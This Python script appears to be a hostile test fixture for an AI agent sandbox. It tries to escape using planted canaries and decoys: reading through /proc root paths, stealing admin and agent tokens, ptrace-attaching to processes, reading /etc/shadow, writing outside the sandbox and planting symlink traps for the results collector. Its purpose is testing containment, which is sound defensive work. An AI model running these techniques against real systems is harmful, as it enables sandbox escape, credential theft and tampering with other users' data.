"""A program that wants out. It tries everything it can think of and reports what it got.

What it looks for is told in targets.json beside it, as if it knew this computer inside out. Each attack returns what
it got, or nothing; an exception is a failure of the attack.
"""
import ctypes
import glob
import http.client
import json
import os
import signal
import socket
import subprocess
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "targets.json"), encoding="utf-8") as f:
    T = json.load(f)
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def read(path):
    with open(path, "rb") as f:
        return f.read(1 << 20).decode("utf-8", "replace")


def everything_in(path):
    """Through every way that leads to a path."""
    ways = ["", "/proc/1/root", "/proc/self/root", "/proc/%d/root" % os.getppid(), HERE + "/../../../../../../.."]
    ways += ["/proc/%d/root" % T["decoy"], "/proc/%d/cwd/../../../../../../../.." % T["decoy"]]
    for way in ways:
        try:
            return read(way + path)
        except OSError:
            continue
    return None


@attack
def home_file():
    return T["canary"] in (everything_in(T["home_file"]) or "")


@attack
def home_listing():
    return os.listdir(T["home"])


@attack
def state_listing():
    return os.listdir(T["state"])


@attack
def admin_token():
    for path in glob.glob(glob.escape(T["state"]) + "/sandboxes/sb-*.json"):
        return json.loads(read(path)).get("admin_token")
    return None


@attack
def other_sandbox_file():
    return T["canary"] in (everything_in(T["other_file"]) or "")


@attack
def other_sandbox_socket():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(T["other_socket"])
        return True


@attack
def other_agent_connection():
    return json.loads(read(T["other_connection"]))["token"]


@attack
def shared_memory():
    return T["canary"] in read("/dev/shm/" + T["shm"])


@attack
def temporary_file():
    return T["canary"] in read(T["tmp_file"])


@attack
def environment_of_others():
    found = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            if T["canary"] in read(path):
                found.append(path)
        except OSError:
            continue
    return found


@attack
def own_environment():
    return [k for k, v in os.environ.items() if T["canary"] in v or k in ("SSH_AUTH_SOCK", "XDG_RUNTIME_DIR")]


@attack
def processes_of_seer():
    found = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if any(word in read(path) for word in T["seer_words"]):
                found.append(path)
        except OSError:
            continue
    return found


@attack
def signal_a_process():
    os.kill(T["decoy"], 0)
    return "sleep" in read("/proc/%d/cmdline" % T["decoy"])


@attack
def kill_a_process():
    if T["decoy_word"] in read("/proc/%d/cmdline" % T["decoy"]):  # not a stranger with its number
        os.kill(T["decoy"], signal.SIGUSR1)
        return True
    return None


@attack
def trace_a_process():
    libc = ctypes.CDLL(None, use_errno=True)
    if T["decoy_word"] not in read("/proc/%d/cmdline" % T["decoy"]):
        return None
    libc.ptrace.argtypes = [ctypes.c_long] * 4
    if libc.ptrace(16, T["decoy"], 0, 0) != 0:  # PTRACE_ATTACH
        return None
    os.waitpid(T["decoy"], 0x40000000)
    libc.ptrace(17, T["decoy"], 0, 0)
    return True


@attack
def memory_of_a_process():
    if T["decoy_word"] not in read("/proc/%d/cmdline" % T["decoy"]):
        return None
    with open("/proc/%d/mem" % T["decoy"], "rb"):
        return True


@attack
def local_tcp():
    with socket.create_connection(("127.0.0.1", T["tcp"]), 3) as s:
        return T["canary"] in s.recv(100).decode()


@attack
def abstract_socket():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\0" + T["abstract"])
        return T["canary"] in s.recv(100).decode()


@attack
def network_interfaces():
    return [name for _, name in socket.if_nameindex() if name != "lo"]


@attack
def write_outside():
    with open(T["outside"], "w", encoding="utf-8") as f:
        f.write("was here")
    return True


@attack
def kernel_settings():
    value = read("/proc/sys/vm/swappiness")
    with open("/proc/sys/vm/swappiness", "w", encoding="utf-8") as f:
        f.write(value)  # the same: this is to see whether it can be done, not to do it
    return True


@attack
def kernel_messages():
    os.close(os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK))
    return True


@attack
def system_tree():
    return os.listdir("/sys")


@attack
def the_program_itself():
    env = dict(os.environ, XDG_RUNTIME_DIR=T["sockets"])  # or this would leave a name for the socket elsewhere
    out = subprocess.run([T["seer"], "ls", "--json", "--state-dir", T["state"]], capture_output=True, timeout=20, env=env)
    return T["other_name"] in out.stdout.decode()


@attack
def shadow_file():
    return read("/etc/shadow")


@attack
def open_files():
    """What the program above left open for us."""
    found = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink("/proc/self/fd/" + fd)
        except OSError:
            continue
        if int(fd) > 2 and not target.startswith("/proc/"):
            found.append(target)
    return found


def request(method, path, body=None, service=None):
    """With our own token, what is not ours."""
    with open(os.path.join(HERE, "tools", "connection.json"), encoding="utf-8") as f:
        mine = json.load(f)
    conn = http.client.HTTPConnection("sandbox")
    conn.sock = socket.socket(socket.AF_UNIX)
    conn.sock.connect(mine["endpoint"][len("unix:"):])
    conn.request(method, path, json.dumps(body) if body else None, {"Authorization": "Bearer " + mine["token"]})
    answer = conn.getresponse()
    text = answer.read()
    return text.decode("utf-8", "replace") if answer.status < 300 else None


@attack
def run_in_our_sandbox():
    return request("POST", "/v1/processes", {"id": "x", "argv": ["id"]})


@attack
def read_in_our_sandbox():
    return request("GET", "/v1/files?path=/workspace")


@attack
def secrets_of_our_sandbox():
    return request("GET", "/v1/config")


@attack
def end_our_sandbox():
    return request("PUT", "/v1/lease", {"kind": "detached", "ttl_seconds": 1e6})


@attack
def serve_in_our_sandbox():
    return request("PUT", "/v1/services/tools", {"filename": "x.py", "code": "@expose\ndef f(): return 1", "token_sha256": "0" * 64})


@attack
def neighbour_service():
    return request("POST", "/v1/services/private/call/f", {"args": [], "kwargs": {}})


def main():
    got = {}
    for name, function in ATTACKS.items():
        try:
            loot = function()
        except Exception as e:  # whatever stops an attack is welcome
            print(name, "failed:", type(e).__name__, e, file=sys.stderr)
            continue
        if loot:
            got[name] = repr(loot)[:200]
    print("LOOT " + json.dumps(got))
    if os.path.isdir(os.path.join(HERE, "outputs")):
        leave_traps(os.path.join(HERE, "outputs"))


def leave_traps(out):
    """For the program that collects our results, and for the next run here."""
    os.symlink(T["home_file"], os.path.join(out, "link.txt"))
    os.symlink(T["home"], os.path.join(out, "folder"))
    os.mkfifo(os.path.join(out, "pipe"))
    if not T.get("traps"):
        return
    os.rename(out, out + ".old")
    os.symlink(T["home"], out)
    for name, target in {".seer-workspace.lock": T["outside"], ".seer-workspace.json": T["outside"], "mcp.json": T["outside"],
                         "prompt.md": T["home_file"], "tools": T["home"], "hostile.py.seer-tmp": T["home_file"]}.items():
        path = os.path.join(HERE, name)
        if os.path.lexists(path):
            os.rename(path, path + ".moved")
        os.symlink(target, path)


main()
